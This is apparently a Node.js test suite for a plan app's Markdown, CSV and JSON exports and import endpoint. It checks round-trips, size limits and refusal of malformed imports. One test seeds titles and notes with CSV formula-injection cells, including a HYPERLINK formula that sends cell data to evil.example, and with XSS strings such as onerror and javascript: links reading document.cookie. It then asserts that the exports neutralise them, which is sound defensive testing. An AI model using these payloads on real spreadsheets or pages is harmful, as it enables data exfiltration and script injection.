// Exports and import: the Markdown one-pager, the milestones CSV, the JSON with slips and
// history, and POST /api/plans/import, which turns an export back into a plan (export → import
// → export round-trips).
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { startServer, tempData, createPlan, api, client, synced, destroy, waitFor } from './lib/harness.js'

let data, server
before(async () => { data = tempData(); server = await startServer({ dataFile: data.file }) })
after(async () => { await server.stop(); data.cleanup() })

async function get (path, token) {
  const response = await fetch(server.url + path, { headers: token ? { authorization: `Bearer ${token}` } : {} })
  return { status: response.status, type: response.headers.get('content-type'), text: await response.text() }
}

/** RFC 4180 CSV, enough for quoted fields with commas, quotes and line breaks. */
function parseCsv (text) {
  const rows = []
  let row = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++ } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') { row.push(field); field = '' } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++ } else field += c
  }
  return rows
}

/** An enterprise plan with one moved date, a note with awkward characters and a person. */
async function richPlan () {
  const plan = await createPlan(server, { template: 'enterprise', title: 'Northwind × Mapline', goLive: '2027-04-01' })
  const seller = client(server, plan.id, plan.seller)
  await synced(seller)
  const Y = (await import('yjs'))
  seller.doc.transact(() => {
    seller.map('stakeholders').set('st-lena', new Y.Map([['name', 'Lena Fischer'], ['side', 'buyer'], ['role', 'security'], ['order', 'a0']]))
    const review = seller.map('milestones').get('ms-security-review')
    review.set('owner', 'st-lena')
    review.set('notes', 'Needs the DPA, "signed", by legal; then | the pen test')
    seller.map('meta').set('objective', 'Cut ramp time from 90 to 45 days')
    seller.map('meta').set('goLiveReason', 'New fiscal year starts 1 April')
  })
  const review = seller.map('milestones').get('ms-security-review')
  const due = review.get('due')
  const later = new Date(Date.parse(due) + 10 * 86_400_000).toISOString().slice(0, 10)
  seller.doc.transact(() => { review.set('due', later); review.set('slipReason', 'Security team out until the 20th') })
  await waitFor(async () => (await api(server, 'GET', `/api/plans/${plan.id}/slips`)).body.slips.length === 1, { what: 'the slip' })
  destroy(seller)
  return { ...plan, reviewDue: later }
}

test('the Markdown one-pager and the milestones CSV say what the plan says', async () => {
  const plan = await richPlan()
  const md = await get(`/api/plans/${plan.id}/export.md`, plan.buyer)
  assert.equal(md.status, 200)
  assert.match(md.type, /^text\/markdown/)
  for (const part of ['# Northwind × Mapline', '## Objective', 'Cut ramp time from 90 to 45 days', '## Why this date', 'New fiscal year starts 1 April',
    '### Security & compliance', '| Lena Fischer |', '## Who is involved', '## Date changes',
    'Security team out until the 20th', '+10 days', 'by Mapline team (seller)']) {
    assert.ok(md.text.includes(part), `the Markdown has ${JSON.stringify(part)}:\n${md.text.slice(-400)}`)
  }

  const csv = await get(`/api/plans/${plan.id}/export.csv`, plan.buyer)
  assert.equal(csv.status, 200)
  assert.match(csv.type, /^text\/csv/)
  const rows = parseCsv(csv.text)
  assert.deepEqual(rows[0], ['id', 'workstream', 'title', 'side', 'owner', 'due', 'status', 'depends_on', 'times_moved', 'days_moved', 'notes'])
  assert.equal(rows.length, 1 + 17, 'a row per milestone')
  const review = rows.find(r => r[0] === 'ms-security-review')
  assert.deepEqual([review[4], review[5], review[8], review[9]], ['Lena Fischer', plan.reviewDue, '1', '10'])
  assert.equal(review[10], 'Needs the DPA, "signed", by legal; then | the pen test', 'quotes and commas survive')
})

test('exports are inert: CSV cells cannot start a formula, Markdown user text makes no HTML and no link', async () => {
  const plan = await createPlan(server, { title: 'Rollout <img src=x onerror=alert(1)>' })
  const buyer = client(server, plan.id, plan.buyer)
  await synced(buyer)
  const Y = (await import('yjs'))
  const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
  const titles = {
    'ms-formula': hyperlink,
    'ms-plus': '+1+1',
    'ms-minus': '-2+3',
    'ms-at': '@SUM(A1:A9)',
    'ms-tab': '\t=cmd',
    'ms-img': '<img src=x onerror=alert(1)>',
    'ms-link': '[click](javascript:alert(1))',
    'ms-plain': 'Security review - part 2'
  }
  buyer.doc.transact(() => {
    for (const [id, title] of Object.entries(titles)) {
      buyer.map('milestones').set(id, new Y.Map([['title', title], ['workstream', 'implementation'], ['due', '2027-03-10'],
        ['notes', id === 'ms-link' ? '[x](javascript:alert(document.cookie)) ![p](http://evil.example/p.png) <script>x</script>' : '-notes'], ['order', `z${id}`]]))
    }
    buyer.map('meta').set('objective', '# Heading\n<img src=x onerror=alert(1)>\n[click](javascript:alert(1))')
    buyer.map('stakeholders').set('st-x', new Y.Map([['name', '<b onmouseover=alert(1)>Eve</b>'], ['side', 'buyer'], ['order', 'a0']]))
  })
  // A move earlier: its negative day total is the export's own number, not user text.
  const step = buyer.map('milestones').get('ms-plain')
  buyer.doc.transact(() => { step.set('due', '2027-03-05'); step.set('slipReason', '=evil() <img src=x>') })
  await waitFor(async () => (await api(server, 'GET', `/api/plans/${plan.id}/slips`)).body.slips.length === 1, { what: 'the slip' })
  destroy(buyer)

  const rows = parseCsv((await get(`/api/plans/${plan.id}/export.csv`, plan.seller)).text)
  const row = id => rows.find(r => r[0] === id)
  assert.equal(row('ms-formula')[2], `'${hyperlink}`)
  for (const id of ['ms-plus', 'ms-minus', 'ms-at', 'ms-tab']) {
    assert.equal(row(id)[2], `'${titles[id]}`, `${id}: ${JSON.stringify(row(id))}`)
    assert.equal(row(id)[10], "'-notes")
  }
  assert.equal(row('ms-plain')[2], 'Security review - part 2', 'text that starts harmlessly is left alone')
  assert.deepEqual([row('ms-plain')[8], row('ms-plain')[9]], ['1', '-5'], 'the export\'s own negative number is not quoted')
  const cells = rows.slice(1).flat()
  assert.ok(cells.every(c => !/^[=+\-@\t\r]/.test(c) || /^-\d+$/.test(c)), 'no cell starts a formula')

  const md = (await get(`/api/plans/${plan.id}/export.md`, plan.seller)).text
  assert.ok(!md.includes('<'), `no raw HTML:\n${md}`)
  assert.ok(md.includes('&lt;img src=x onerror=alert(1)&gt;'), 'the text is still there, as text')
  // Every bracket is escaped, so no link or image can be formed; no link has another scheme.
  assert.ok(!md.replaceAll('\\]', '').includes(']'), `no link:\n${md}`)
  assert.ok(!/\]\(\s*javascript:/i.test(md.replaceAll('\\]', '')))
  assert.ok(md.includes('\\[click\\](javascript:alert(1))'))
  assert.ok(md.includes('\\# Heading'), 'no heading from user text')
  assert.ok(md.includes('“=evil() &lt;img src=x&gt;”'))
})

test('export → import → export gives the same plan, twice over; the import starts its own history', async () => {
  const plan = await richPlan()
  const first = JSON.parse((await get(`/api/plans/${plan.id}/export.json`, plan.seller)).text)
  assert.equal(first.format, 'mapline.plan.v2')
  assert.equal(first.slips.length, 1)
  assert.ok(first.history.length >= 3, 'creation, edits and the move')
  assert.deepEqual(first.plan.issues, [])

  const imported = await api(server, 'POST', '/api/plans/import', { body: first })
  assert.equal(imported.status, 201, JSON.stringify(imported.body))
  assert.notEqual(imported.body.id, plan.id)
  assert.deepEqual(imported.body.shares.map(s => [s.side, s.role]), [['seller', 'editor'], ['buyer', 'editor']])
  const second = (await api(server, 'GET', `/api/plans/${imported.body.id}/export.json`)).body
  assert.deepEqual(second.plan, first.plan, 'the plan round-trips')
  assert.deepEqual(second.slips, [], 'a new plan has no slips yet')
  assert.equal(second.history.length, 1, 'only its creation')

  const again = await api(server, 'POST', '/api/plans/import', { body: second })
  const third = (await api(server, 'GET', `/api/plans/${again.body.id}/export.json`)).body
  assert.deepEqual(third.plan, first.plan)
  // The import is a real plan: its links sync it.
  const buyer = client(server, imported.body.id, imported.body.shares[1].token)
  await synced(buyer)
  assert.equal(buyer.map('milestones').get('ms-security-review').get('owner'), 'st-lena')
  destroy(buyer)
})

test('an import over 8 MiB is refused with 413 naming the 8 MiB limit, and creates nothing', async () => {
  const plan = await createPlan(server)
  const good = JSON.parse((await get(`/api/plans/${plan.id}/export.json`, plan.seller)).text)
  const pipeline = async () => (await api(server, 'GET', '/api/plans?today=2027-01-01')).body
  const before = await pipeline()
  const raw = JSON.stringify({ ...good, pad: 'x'.repeat(9 * 1024 * 1024) })
  assert.ok(raw.length > 9 * 1024 * 1024)
  const refused = await api(server, 'POST', '/api/plans/import', { raw, headers: { 'content-type': 'application/json' } })
  assert.equal(refused.status, 413, JSON.stringify(refused.body).slice(0, 200))
  assert.equal(refused.body?.error?.code, 'body_too_large')
  assert.match(refused.body.error.message, /8388608 bytes \(8 MiB\)/)
  assert.doesNotMatch(refused.body.error.message, /65536/)
  assert.deepEqual(await pipeline(), before, 'the refused import created no plan')
  // Just under the limit is accepted: the limit in force is the one the message names.
  const near = { ...good, history: [{ note: 'x'.repeat(8 * 1024 * 1024 - JSON.stringify({ ...good, history: [] }).length - 1024) }] }
  const size = Buffer.byteLength(JSON.stringify(near))
  assert.ok(size > 8 * 1024 * 1024 - 2048 && size <= 8 * 1024 * 1024, `${size} bytes`)
  assert.equal((await api(server, 'POST', '/api/plans/import', { body: near })).status, 201)
})

test('bad imports and exports are refused with a JSON error and create nothing', async () => {
  const plan = await createPlan(server)
  const other = await createPlan(server)
  const good = JSON.parse((await get(`/api/plans/${plan.id}/export.json`, plan.seller)).text)
  const count = async () => (await api(server, 'GET', '/api/plans')).body.plans.length
  const before = await count()
  const cases = [
    ['a share token', { body: good, token: plan.seller }, 403, 'admin_only'],
    ['invalid JSON', { raw: '{"plan":', headers: { 'content-type': 'application/json' } }, 400, 'invalid_json'],
    ['no plan', { body: { format: 'mapline.plan.v1' } }, 422, 'invalid_field'],
    ['another format', { body: { ...good, format: 'trello.v2' } }, 422, 'invalid_field'],
    ['a bad go-live', { body: { ...good, plan: { ...good.plan, meta: { ...good.plan.meta, goLive: 'soon' } } } }, 422, 'invalid_field'],
    ['an empty title', { body: { ...good, plan: { ...good.plan, meta: { ...good.plan.meta, title: ' ' } } } }, 422, 'invalid_field'],
    ['a collection that is not a list', { body: { ...good, plan: { ...good.plan, milestones: {} } } }, 422, 'invalid_field'],
    ['an entry without an id', { body: { ...good, plan: { ...good.plan, risks: [{ text: 'x' }] } } }, 422, 'invalid_field'],
    ['more than 8 MiB', { raw: JSON.stringify({ ...good, pad: 'x'.repeat(9 * 1024 * 1024) }), headers: { 'content-type': 'application/json' } }, 413, 'body_too_large']
  ]
  for (const [name, options, status, code] of cases) {
    const got = await api(server, 'POST', '/api/plans/import', options)
    assert.deepEqual([got.status, got.body?.error?.code], [status, code], name)
  }
  assert.equal(await count(), before, 'no refused import created a plan')
  // A large but valid import (over the 64 KiB API limit) is accepted.
  const big = { ...good, history: Array.from({ length: 3000 }, (_, i) => ({ seq: i, note: 'history is not imported' })) }
  assert.ok(JSON.stringify(big).length > 64 * 1024)
  assert.equal((await api(server, 'POST', '/api/plans/import', { body: big })).status, 201)

  for (const format of ['json', 'md', 'csv']) {
    assert.equal((await get(`/api/plans/${plan.id}/export.${format}`)).status, 401, `${format} without a token`)
    assert.equal((await get(`/api/plans/${plan.id}/export.${format}`, other.buyer)).status, 403, `${format} with another plan's link`)
  }
})

test('the Markdown one-pager carries what matters in the decision (with the buyer\'s words) and health in words', async () => {
  const plan = await createPlan(server, { template: 'mid-market', title: 'Fabrikam × Mapline', goLive: '2027-04-01' })
  const seller = client(server, plan.id, plan.seller)
  await synced(seller)
  const Y = (await import('yjs'))
  seller.doc.transact(() => {
    seller.map('criteria').set('cr-sso', new Y.Map([['text', 'SSO with Okta on day one'], ['priority', 'must'],
      ['quote', 'If it is not behind Okta, *security* says no'], ['source', 'CISO, discovery call'], ['order', 'a0']]))
  })
  await waitFor(async () => (await api(server, 'GET', `/api/plans/${plan.id}`)).body.plan.criteria.length === 1, { what: 'the criterion stored' })
  destroy(seller)
  const { body } = await api(server, 'GET', `/api/plans/${plan.id}/health`, { token: plan.buyer })
  const verdict = { on_track: 'On track', at_risk: 'At risk', off_track: 'Off track' }[body.health.verdict]

  const md = await get(`/api/plans/${plan.id}/export.md`, plan.buyer)
  assert.equal(md.status, 200)
  for (const part of ['## What matters in the decision', '- **SSO with Okta on day one** (must)',
    // The quote, with user text still escaped (no emphasis from it).
    ': “If it is not behind Okta, \\*security\\* says no” — CISO, discovery call',
    '## How the plan is doing', `**${verdict}**`, 'overdue ·', 'due this week ·', 'blocked']) {
    assert.ok(md.text.includes(part), `the Markdown has ${JSON.stringify(part)}:\n${md.text}`)
  }
  // Health comes before the steps, as on the read view.
  assert.ok(md.text.indexOf('## How the plan is doing') < md.text.indexOf('## Milestones'))
})
